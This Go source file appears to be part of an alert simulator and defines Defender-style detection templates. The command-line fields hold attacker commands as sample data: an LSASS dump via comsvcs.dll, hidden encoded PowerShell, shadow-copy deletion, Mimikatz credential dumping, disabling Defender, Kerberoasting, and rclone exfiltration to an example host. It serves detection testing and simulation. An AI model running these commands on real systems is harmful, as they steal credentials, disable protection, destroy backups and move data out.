package sim

const (
	edr  = "WindowsDefenderAtp"
	av   = "WindowsDefenderAv"
	sys  = `C:\Windows\System32`
	ps   = `C:\Windows\System32\WindowsPowerShell\v1.0`
	temp = `C:\Users\Public`
)

func highTemplates() []template {
	return []template{
		{title: "Suspicious access to LSASS service", category: "CredentialAccess", source: edr, mitre: []string{"T1003.001"}, file: "rundll32.exe", dir: sys, cmd: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 704 C:\Users\Public\l.dmp full`, parent: "powershell.exe", about: "A process read the memory of the Local Security Authority, where the credentials of logged-on users are kept."},
		{title: "Suspicious PowerShell download or encoded command execution", category: "Execution", source: edr, mitre: []string{"T1059.001", "T1105"}, file: "powershell.exe", dir: ps, cmd: `powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA`, parent: "mshta.exe", url: "http://cdn-update.example/a.ps1", about: "PowerShell ran a script that was encoded to hide what it does."},
		{title: "Ransomware behavior detected in the file system", category: "Ransomware", source: edr, mitre: []string{"T1486"}, file: "svc_update.exe", dir: temp, cmd: `svc_update.exe --path \\SRV-FILE-03\share --ext .lck`, parent: "services.exe", family: "Nightrail", about: "Many files were renamed and overwritten within a short time."},
		{title: "Hands-on-keyboard attack involving multiple devices", category: "LateralMovement", source: "MTP", mitre: []string{"T1021.002", "T1570"}, file: "PSEXESVC.exe", dir: `C:\Windows`, cmd: `C:\Windows\PSEXESVC.exe`, parent: "services.exe", about: "An operator used the same account on several devices within minutes."},
		{title: "Cobalt Strike beacon detected", category: "CommandAndControl", source: edr, mitre: []string{"T1071.001", "T1055"}, file: "dllhost.exe", dir: sys, cmd: `dllhost.exe /Processid:{3AD05575-8857-4850-9277-11B85BDB8E09}`, parent: "svchost.exe", url: "https://metrics-sync.example/pixel.gif", family: "CobaltStrike", about: "The process answers at regular intervals to a server on the Internet."},
		{title: "Suspected DCSync attack (replication of directory services)", category: "CredentialAccess", source: edr, mitre: []string{"T1003.006"}, file: "lsass.exe", dir: sys, cmd: `lsass.exe`, parent: "wininit.exe", about: "A host that is no domain controller asked for directory replication."},
		{title: "Attempt to turn off Microsoft Defender Antivirus protection", category: "DefenseEvasion", source: edr, mitre: []string{"T1562.001"}, file: "powershell.exe", dir: ps, cmd: `powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true`, parent: "cmd.exe", registry: `SOFTWARE\Policies\Microsoft\Windows Defender`, about: "Real-time protection was switched off by a script."},
		{title: "File backups were deleted", category: "Impact", source: edr, mitre: []string{"T1490"}, file: "vssadmin.exe", dir: sys, cmd: `vssadmin.exe delete shadows /all /quiet`, parent: "cmd.exe", about: "All shadow copies were removed, which usually happens just before encryption."},
		{title: "Pass-the-hash attack", category: "LateralMovement", source: edr, mitre: []string{"T1550.002"}, file: "lsass.exe", dir: sys, cmd: `lsass.exe`, parent: "wininit.exe", about: "A logon used the hash of a password instead of the password."},
		{title: "Malicious credential theft tool execution detected", category: "CredentialAccess", source: av, mitre: []string{"T1003"}, file: "m.exe", dir: temp, cmd: `m.exe "privilege::debug" "sekurlsa::logonpasswords" exit`, parent: "cmd.exe", family: "Mimikatz", about: "A known tool for dumping credentials was run."},
		{title: "Exfiltration to cloud storage with rclone", category: "Exfiltration", source: edr, mitre: []string{"T1567.002"}, file: "rclone.exe", dir: temp, cmd: `rclone.exe copy \\SRV-FILE-03\finance remote:drop --transfers 24`, parent: "cmd.exe", url: "https://drop-storage.example/upload", about: "A large amount of files was copied to a storage service on the Internet."},
		{title: "Possible web shell installation", category: "Persistence", source: edr, mitre: []string{"T1505.003"}, file: "w3wp.exe", dir: sys + `\inetsrv`, cmd: `w3wp.exe -ap "DefaultAppPool"`, parent: "svchost.exe", about: "The web server wrote a script into a folder that it serves."},
	}
}

func mediumTemplates() []template {
	return []template{
		{title: "Suspicious PowerShell command line", category: "Execution", source: edr, mitre: []string{"T1059.001"}, file: "powershell.exe", dir: ps, cmd: `powershell.exe -ExecutionPolicy Bypass -File C:\ProgramData\update.ps1`, parent: "cmd.exe", about: "The command line matches patterns used by attackers, and by some administrators."},
		{title: "Suspicious scheduled task", category: "Persistence", source: edr, mitre: []string{"T1053.005"}, file: "schtasks.exe", dir: sys, cmd: `schtasks.exe /create /tn "OneDrive Sync" /tr C:\ProgramData\od.exe /sc minute /mo 15`, parent: "powershell.exe", about: "A task was created that starts a program from an unusual folder."},
		{title: "Office process dropped and executed a PE file", category: "Execution", source: edr, mitre: []string{"T1204.002"}, file: "invoice_viewer.exe", dir: `C:\Users\Public\Downloads`, cmd: `invoice_viewer.exe`, parent: "WINWORD.EXE", about: "A document started a program that it had written itself."},
		{title: "Suspicious sequence of exploration activities", category: "Discovery", source: edr, mitre: []string{"T1016", "T1033", "T1087"}, file: "net.exe", dir: sys, cmd: `net group "Domain Admins" /domain`, parent: "cmd.exe", about: "Several commands that gather information ran one after the other."},
		{title: "Suspicious LDAP query", category: "Discovery", source: edr, mitre: []string{"T1087.002", "T1069.002"}, file: "SharpHound.exe", dir: temp, cmd: `SharpHound.exe -c All --zipfilename out.zip`, parent: "cmd.exe", about: "The directory was read in the pattern of an attack-path tool."},
		{title: "Kerberoasting attack", category: "CredentialAccess", source: edr, mitre: []string{"T1558.003"}, file: "powershell.exe", dir: ps, cmd: `powershell.exe Invoke-Kerberoast -OutputFormat Hashcat`, parent: "explorer.exe", about: "Service tickets were requested for many accounts within seconds."},
		{title: "Suspicious WMI process creation", category: "LateralMovement", source: edr, mitre: []string{"T1047"}, file: "cmd.exe", dir: sys, cmd: `cmd.exe /Q /c whoami 1> \\127.0.0.1\ADMIN$\__17 2>&1`, parent: "WmiPrvSE.exe", about: "A command was started from another computer."},
		{title: "Suspicious service registration", category: "Persistence", source: edr, mitre: []string{"T1543.003"}, file: "sc.exe", dir: sys, cmd: `sc.exe create updsvc binPath= C:\ProgramData\u.exe start= auto`, parent: "cmd.exe", registry: `SYSTEM\CurrentControlSet\Services\updsvc`, about: "A service was registered for a program without a known publisher."},
		{title: "Connection to a custom network indicator", category: "CommandAndControl", source: "CustomerTI", mitre: []string{"T1071"}, file: "chrome.exe", dir: `C:\Program Files\Google\Chrome\Application`, cmd: `"chrome.exe"`, parent: "explorer.exe", url: "https://files-share.example/in", about: "A device reached an address from your own indicator list."},
		{title: "Suspicious remote activity", category: "LateralMovement", source: edr, mitre: []string{"T1021.001"}, file: "mstsc.exe", dir: sys, cmd: `mstsc.exe /v:SRV-APP-02`, parent: "explorer.exe", about: "A remote session was opened outside the usual hours of the account."},
		{title: "Anonymous proxy use detected", category: "SuspiciousActivity", source: "MCAS", mitre: []string{"T1090"}, file: "tor.exe", dir: temp, cmd: `tor.exe -f torrc`, parent: "firefox.exe", url: "https://relay.example/", about: "Traffic left through an anonymising network."},
		{title: "Suspicious registration of a COM object", category: "Persistence", source: edr, mitre: []string{"T1546.015"}, file: "reg.exe", dir: sys, cmd: `reg.exe add HKCU\Software\Classes\CLSID\{b5f8350b}\InprocServer32 /d C:\ProgramData\x.dll`, parent: "cmd.exe", registry: `Software\Classes\CLSID\{b5f8350b}\InprocServer32`, about: "A component was replaced for the current user."},
		{title: "Email messages containing malicious file removed after delivery", category: "InitialAccess", source: "OfficeATP", mitre: []string{"T1566.001"}, file: "OUTLOOK.EXE", dir: `C:\Program Files\Microsoft Office\root\Office16`, cmd: `"OUTLOOK.EXE"`, parent: "explorer.exe", about: "Messages were taken out of mailboxes after their attachment was found to be malicious."},
	}
}
